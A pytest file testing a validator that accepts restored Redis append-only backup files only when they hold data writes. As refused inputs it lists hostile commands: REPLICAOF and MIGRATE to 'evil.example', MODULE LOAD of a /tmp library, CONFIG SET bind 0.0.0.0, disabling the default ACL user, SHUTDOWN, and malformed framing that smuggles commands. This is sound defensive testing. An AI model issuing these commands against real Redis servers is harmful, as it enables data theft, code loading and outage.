"""The files of a restored store write data, and do nothing else when the store reads them."""

import pytest

from admin.backup_file import BackupDamaged
from admin.store_files import check_commands


def command(*words: str) -> bytes:
    parts = (f"${len(word.encode())}\r\n{word}\r\n" for word in words)
    return f"*{len(words)}\r\n{''.join(parts)}".encode()


WRITES = command("SELECT", "0") + command("MULTI") + command("hset", "a", "b", "c\r\n*1") + command("EXEC")


@pytest.mark.parametrize("content", [b"", WRITES, b"#TS:1628217470\r\n" + WRITES, WRITES + command("SET", "x", "")])
def test_commands_that_write_data_pass(content):
    check_commands("x.aof", content)


@pytest.mark.parametrize(
    "words",
    [
        ("CONFIG", "SET", "port", "6379"),
        ("config", "set", "bind", "0.0.0.0"),
        ("REPLICAOF", "evil.example", "6379"),
        ("SLAVEOF", "evil.example", "6379"),
        ("MODULE", "LOAD", "/tmp/x.so"),
        ("FUNCTION", "LOAD", "#!lua name=x"),
        ("EVAL", "while true do end", "0"),
        ("EVALSHA", "0" * 40, "0"),
        ("MIGRATE", "evil.example", "6379", "", "0", "1000", "KEYS", "a"),
        ("ACL", "SETUSER", "default", "off"),
        ("DEBUG", "SLEEP", "1000"),
        ("SHUTDOWN",),
        ("\x1b[2J",),
        ("x" * 70_000,),
    ],
)
def test_a_command_that_does_more_than_write_data_is_refused_by_its_name_and_place(words):
    with pytest.raises(BackupDamaged, match=rf"x.aof has the command .* at byte {len(WRITES)}") as refused:
        check_commands("x.aof", WRITES + command(*words) + WRITES)
    assert "\x1b" not in str(refused.value)
    assert len(str(refused.value)) < 200


@pytest.mark.parametrize(
    "content",
    [
        b"CONFIG SET port 6379\r\n" + WRITES,
        b"*1\r\n$4\r\nEXECxx" + command("MONITOR"),
        b"*+1\r\n$7\r\nMONITOR\r\n",
        b"*1 \r\n$7\r\nMONITOR\r\n",
        b"*2\r\n$4\r\nEXEC\r\n*1\r\n$7\r\nMONITOR\r\n",
        b"*0\r\n" + command("MONITOR"),
        b"*1\r\n$-1\r\n" + command("MONITOR"),
        b"*1\n$7\nMONITOR\n" + WRITES,
        b"file appendonly.aof.manifest seq 1 type i\n",
    ],
)
def test_what_is_no_command_is_refused(content):
    with pytest.raises(BackupDamaged):
        check_commands("x.aof", content)


@pytest.mark.parametrize("kept", range(1, len(WRITES)))
def test_a_write_that_broke_off_is_left_to_the_store(kept):
    check_commands("x.aof", WRITES[:kept])
